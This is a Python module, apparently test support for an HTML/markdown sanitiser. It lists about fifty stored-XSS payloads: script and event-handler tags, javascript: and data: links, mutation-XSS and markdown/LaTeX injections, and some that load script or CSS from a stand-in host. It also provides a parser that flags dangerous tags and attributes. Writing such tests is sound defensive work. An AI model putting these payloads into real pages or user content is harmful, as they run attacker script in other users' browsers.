"""Stored XSS: what is typed into a field, and how to tell from a page whether any of it would run."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<style><a title="</style><img src onerror=alert(1)>">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<template><script>alert(1)</script></template>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](x"onerror="alert(1))',
    '![x](/media/x.png "\\" onerror=alert(1) x=\\""){onerror=alert(1) .messagelist style="position:fixed"}',
    "<javascript:alert(1)>",
    "javascript://evil.example/%0aalert(1)",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\unicode{x3c}\\text{script>alert(1)</script>}$$",
    "$\\class{messagelist}{\\style{position:fixed}{x}}$",
    "```<script>alert(1)</script>\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    '# <a id="location" name=attributes>x</a>',
]

RUNNING = {"script", "style", "iframe", "object", "embed", "base", "meta", "link", "form", "input", "svg", "template"}
ADDRESS = re.compile(r"(?i)(?:https?:|mailto:|tel:|/(?!/)|#)|$")


class _Finder(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__()
        self.allowed = allowed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in RUNNING - self.allowed:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "xlink:href"}:
                self.found.append(f"<{tag} {name}>")
            if name in {"href", "src", "action", "data"} and not ADDRESS.match((value or "").strip()):
                self.found.append(f"<{tag} {name}={value}>")


def dangers(html: str, *, allowed: frozenset[str] = frozenset()) -> list[str]:
    """What in `html` would run or lead somewhere it must not. `allowed`: tags a whole page has of its own."""
    finder = _Finder(allowed)
    finder.feed(html)
    finder.close()
    return finder.found
